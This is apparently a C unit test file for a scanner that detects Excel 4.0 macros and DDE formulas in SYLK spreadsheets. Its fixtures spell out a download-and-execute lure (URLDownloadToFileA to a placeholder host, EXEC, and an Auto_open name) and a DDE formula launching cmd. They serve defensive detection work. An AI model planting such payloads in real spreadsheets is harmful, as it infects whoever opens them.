/*
 * test_sylk.c: sylk_scan on SYLK files written here: Excel 4.0 calls in cell
 * formulas (macro.xlm, with the Auto_Open name called out), DDE formulas, ";;"
 * inside fields, a plain spreadsheet that stays clean, other scripts ignored, and
 * every truncation survived.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#define TESTLIB_FIXTURE
#include "testlib.h"

static const char lure[] = "ID;PWXL;N;E\r\n"
    "P;PGeneral\r\n"
    "C;Y1;X1;K0;ECALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/a\",\"c:\\\\u\\\\a.exe\",0,0)\r\n"
    "C;Y2;X1;K0;EEXEC(\"c:\\\\u\\\\a.exe\")\r\n"
    "C;Y3;X1;K0;EHALT()\r\n"
    "NN;NAuto_open;ER1C1\r\n"
    "E\r\n";

static void
xlm_calls_and_auto_open(void **state)
{
	struct run t;

	(void)state;
	run_analyser(&t, lure, sizeof(lure) - 1, TC_SCRIPT, sylk_scan);
	assert_string_equal(tl_detail(t.r, -1, "macro.xlm"), "SYLK with Excel 4.0 macro calls: "
	    "CALL( URLDownloadToFile EXEC( HALT(; auto-open name Auto_open");
	assert_null(tl_detail(t.r, -1, "doc.dde"));
	run_free(&t);
}

static void
dde_formula_and_escaped_semicolons(void **state)
{
	static const char dde[] = "ID;P\nC;Y1;X1;K\"a;;b\";E=cmd|' /C calc'!A0\n"
	    "C;Y2;X1;K1;ESUM(R1C1;;R1C2)\nE\n";
	struct run t;

	(void)state;
	run_analyser(&t, dde, sizeof(dde) - 1, TC_SCRIPT, sylk_scan);
	assert_string_equal(tl_detail(t.r, -1, "doc.dde"), "SYLK DDE formula: =cmd|' /C calc'!A0");
	assert_null(tl_detail(t.r, -1, "macro.xlm"));
	run_free(&t);
}

static void
plain_sheet_and_other_scripts_are_clean(void **state)
{
	static const char plain[] = "ID;PWXL;N;E\nC;Y1;X1;K\"Total\"\nC;Y1;X2;K3;ESUM(R2C2:R9C2)\n"
	    "NN;NTotals;ER1C2\nE\n";
	static const char js[] = "WScript.Echo('EXEC(');\n";
	struct run t;

	(void)state;
	run_analyser(&t, plain, sizeof(plain) - 1, TC_SCRIPT, sylk_scan);
	assert_int_equal(report_nfindings(t.r), 0);
	run_free(&t);
	run_analyser(&t, js, sizeof(js) - 1, TC_SCRIPT, sylk_scan);
	assert_int_equal(report_nfindings(t.r), 0);
	run_free(&t);
}

static void
every_truncation_is_survived(void **state)
{
	struct run t;
	size_t n;

	(void)state;
	for (n = 0; n <= sizeof(lure) - 1; n++) {
		run_analyser(&t, lure, n, TC_SCRIPT, sylk_scan);
		/* the CALL formula is whole from its closing parenthesis on */
		if (n >= (size_t)(strstr(lure, ",0,0)") - lure) + 5)
			assert_non_null(tl_detail(t.r, -1, "macro.xlm"));
		run_free(&t);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(xlm_calls_and_auto_open),
		cmocka_unit_test(dde_formula_and_escaped_semicolons),
		cmocka_unit_test(plain_sheet_and_other_scripts_are_clean),
		cmocka_unit_test(every_truncation_is_survived),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
